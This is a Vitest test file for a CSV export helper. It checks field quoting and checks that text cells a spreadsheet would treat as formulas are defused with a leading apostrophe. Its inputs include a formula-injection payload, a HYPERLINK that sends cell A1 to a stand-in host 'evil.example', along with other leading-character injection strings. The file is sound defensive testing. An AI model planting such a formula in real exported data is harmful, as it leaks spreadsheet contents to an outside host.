import { describe, expect, it } from 'vitest';
import { toCsv } from './csv.js';

describe('toCsv', () => {
  it('quotes fields with commas, quotes or line breaks and leaves empty cells for null', () => {
    expect(
      toCsv(
        ['azienda', 'inserimenti'],
        [
          ['La Fraternità', 25],
          ['Rekeep, S.p.A.', 15],
          ['Il "Melo"', null],
        ],
      ),
    ).toBe('azienda,inserimenti\r\nLa Fraternità,25\r\n"Rekeep, S.p.A.",15\r\n"Il ""Melo""",\r\n');
  });

  it('neutralises text cells a spreadsheet would run as a formula, keeping numbers', () => {
    expect(
      toCsv(
        ['nome', 'valore'],
        [
          ['=HYPERLINK("http://evil.example/?"&A1,"Apri")', -5],
          ['+39 051 123456', 1.5],
          ['-2+3', 0],
          ['@SUM(A1:A9)', null],
          ['\tcmd', 2],
          ['\r=1+1', 3],
          ['Rossi-Bianchi', 4],
        ],
      ),
    ).toBe(
      'nome,valore\r\n' +
        `"'=HYPERLINK(""http://evil.example/?""&A1,""Apri"")",-5\r\n` +
        "'+39 051 123456,1.5\r\n" +
        "'-2+3,0\r\n" +
        "'@SUM(A1:A9),\r\n" +
        `"'\tcmd",2\r\n` +
        `"'\r=1+1",3\r\n` +
        'Rossi-Bianchi,4\r\n',
    );
  });
});
